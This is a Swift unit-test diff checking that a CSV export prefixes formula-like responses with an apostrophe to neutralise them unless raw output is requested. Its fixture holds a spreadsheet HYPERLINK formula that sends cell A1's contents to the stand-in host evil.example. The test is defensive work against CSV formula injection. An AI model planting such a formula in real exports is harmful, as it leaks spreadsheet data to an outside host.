@@ -47,5 +47,29 @@ extension ReportTests {
             let parsed = csv.rows.map { row in RecordExport.header.map { row[$0] ?? "?" } }
             #expect(parsed == [first, failedWithKind].map(RecordExport.row))
         }
+
+        @Test func formulaLikeAnswersAreNeutralisedUnlessRawIsAsked() throws {
+            let folder = try TemporaryDirectory()
+            let run = RunDirectory(folder.path + "/run")
+            try FileManager.default.createDirectory(atPath: run.path, withIntermediateDirectories: true)
+            let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+            var record = RecordFixtures.record("p1", response: hostile)
+            record.classifier = ClassifierVerdict(name: "rules", version: "1", confidence: 0.5, signals: [])
+            do {
+                let writer = try JournalWriter(path: run.responses)
+                try writer.append(record)
+                try writer.append(RecordFixtures.record("p2", response: "-0.25"))
+                try writer.append(RecordFixtures.record("p3", response: "- a markdown list item"))
+            }
+            let safe = folder.path + "/safe.csv"
+            let raw = folder.path + "/raw.csv"
+            try RecordExport.write([run], toCSV: safe)
+            try RecordExport.write([run], toCSV: raw, neutralizingFormulas: false)
+            let safeRows = try CSV<Named>(string: String(contentsOfFile: safe, encoding: .utf8), loadColumns: false).rows
+            let rawRows = try CSV<Named>(string: String(contentsOfFile: raw, encoding: .utf8), loadColumns: false).rows
+            #expect(safeRows.map { $0["response"] } == ["'" + hostile, "-0.25", "'- a markdown list item"])
+            #expect(rawRows.map { $0["response"] } == [hostile, "-0.25", "- a markdown list item"])
+            #expect(safeRows[0]["confidence"] == "0.500000")
+        }
     }
 }
